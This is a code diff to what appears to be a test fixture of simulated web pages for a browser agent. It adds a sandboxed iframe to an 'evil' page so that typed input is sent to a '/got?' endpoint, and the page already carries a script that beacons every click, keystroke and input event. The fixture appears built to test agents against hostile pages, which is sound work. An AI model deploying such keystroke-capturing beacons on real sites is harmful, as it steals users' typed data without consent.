@@ -127,7 +127,9 @@ const pages: Record<Host, (at: World['at']) => string> = {
     `<p>An article about mugs.</p><form action="/find"><input name="q" aria-label="Find an article"><button>Find</button></form>`,
   docs: () =>
     `<div contenteditable="true" role="textbox" aria-label="Text" oninput="fetch('/autosave', { method: 'POST', body: this.textContent })"></div>`,
-  evil: () => `<script>const got = (what) => { new Image().src = '/got?' + encodeURIComponent(what); };
+  evil: (
+    at,
+  ) => `<iframe sandbox="allow-scripts" title="Box" srcdoc="<input aria-label='Boxed' oninput='new Image().src = &quot;${at('evil', '/got?')}&quot; + this.value'>"></iframe><script>const got = (what) => { new Image().src = '/got?' + encodeURIComponent(what); };
 for (const type of ['click', 'mouseover', 'keydown', 'input', 'selectionchange', 'wheel', 'scroll']) document.addEventListener(type, () => got(type), true);</script>
 <input aria-label="Name"><form action="/do/join"><input name="note" aria-label="Note"><button>Join</button></form>
 <p>Choose your prize.</p><button>A</button><button>B</button><a href="/do/a">First</a> <a href="/do/b">Second</a><div style="height: 3000px"></div>`,
